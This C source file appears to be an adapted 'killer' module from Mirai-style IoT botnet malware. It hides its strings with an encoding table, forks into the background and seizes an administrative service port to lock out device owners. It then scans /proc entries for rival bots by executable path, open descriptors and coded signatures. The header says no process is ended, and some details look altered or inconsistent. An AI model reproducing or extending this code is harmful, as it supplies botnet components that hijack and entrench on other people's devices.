/* Looks at other processes for rivals. Compares only: no process is ended. */
#include "killer.h"

#include "inert.h"
#include "table.h"
#include "util.h"

static char *scan_buffer;

/* Whether memory holds the coded text, found without leaving it decoded. */
static int memory_has(const char *memory, int length, char *text, int text_length)
{
    int at, i;
    for (at = 0; at + text_length - 1 <= length; at++) {
        for (i = 0; i < text_length - 1; i++)
            if (memory[at + i] != text[i])
                break;
        if (i == text_length - 1)
            return 1;
    }
    return 0;
}

LOCAL int memory_scan_match(const char *path)
{
    int fd = open(path, O_RDONLY), found = 0, got;
    if (fd == -1)
        return 0;
    while ((got = (int)read(fd, scan_buffer, 4096)) > 0) {
#define RIVAL(NAME)                                                        \
    {                                                                      \
        int length;                                                        \
        char *text;                                                        \
        STRING_OPEN(NAME);                                                 \
        text = STRING_GET(NAME, &length);                                  \
        found |= memory_has(scan_buffer, got, text, length);               \
        STRING_CLOSE(NAME);                                                \
    }
        KILLER_NAMES(RIVAL)
        if (found)
            break;
    }
    close(fd);
    return found;
}

/* "/proc/PID" followed by the coded suffix. */
static void process_path(char *out, int pid, const char *suffix)
{
    STRING_OPEN(KILLER_PROC);
    out += util_strcpy(out, STRING_GET(KILLER_PROC, NULL));
    STRING_CLOSE(KILLER_PROC);
    util_itoa(pid, 10, out);
    out += util_strlen(out);
    util_strcpy(out, suffix);
}

/* How many of the first descriptors of a process are links to something. */
static int open_descriptors(char *path)
{
    char link[64];
    int fd, count = 0, end = util_strlen(path);
    path[end] = '/';
    for (fd = 0; fd < 16; fd++) {
        util_itoa(fd, 10, path + end + 1);
        if (readlink(path, link, sizeof(link)) > 0)
            count++;
    }
    return count;
}

static int inspect_process(int pid)
{
    char path[64], link[256];
    int length, rival = 0;
    STRING_OPEN(KILLER_EXE);
    process_path(path, pid, STRING_GET(KILLER_EXE, NULL));
    STRING_CLOSE(KILLER_EXE);
    length = (int)readlink(path, link, sizeof(link) - 1);
    if (length > 0) {
        link[length] = '\0';
        STRING_OPEN(KILLER_SAFE);
        if (util_same(link, STRING_GET(KILLER_SAFE, NULL)))
            length = 0;
        STRING_CLOSE(KILLER_SAFE);
        STRING_OPEN(KILLER_DELETED);
        rival |= util_stristr(link, length, STRING_GET(KILLER_DELETED, NULL)) != -1;
        STRING_CLOSE(KILLER_DELETED);
        STRING_OPEN(KILLER_ANIME);
        rival |= util_stristr(link, length, STRING_GET(KILLER_ANIME, NULL)) != -1;
        STRING_CLOSE(KILLER_ANIME);
    }
    STRING_OPEN(KILLER_FD);
    process_path(path, pid, STRING_GET(KILLER_FD, NULL));
    STRING_CLOSE(KILLER_FD);
    rival |= open_descriptors(path) > 12;
    STRING_OPEN(KILLER_STATUS);
    process_path(path, pid, STRING_GET(KILLER_STATUS, NULL));
    STRING_CLOSE(KILLER_STATUS);
    return rival | memory_scan_match(path);
}

/* Takes the port of a service that an administrator would use. */
static void occupy_port(port_t port)
{
    struct sockaddr_in address;
    int fd = socket(AF_INET, SOCK_STREAM, 0);
    if (fd == -1)
        return;
    util_zero(&address, sizeof(address));
    address.sin_family = AF_INET;
    address.sin_addr.s_addr = INADDR_ANY;
    address.sin_port = port;
    if (bind(fd, (struct sockaddr *)&address, sizeof(address)) != -1)
        listen(fd, 1);
}

void killer_init(void)
{
    int pid, rivals = 0;
    if (fork() != 0)
        return;
    occupy_port(NETWORK_PORT(KILLER_PORT));
    scan_buffer = malloc(4096);
    for (pid = 400; pid < 432; pid++)
        if (pid != getpid() && pid != getppid())
            rivals += inspect_process(pid);
    free(scan_buffer);
    exit(rivals != 0);
}
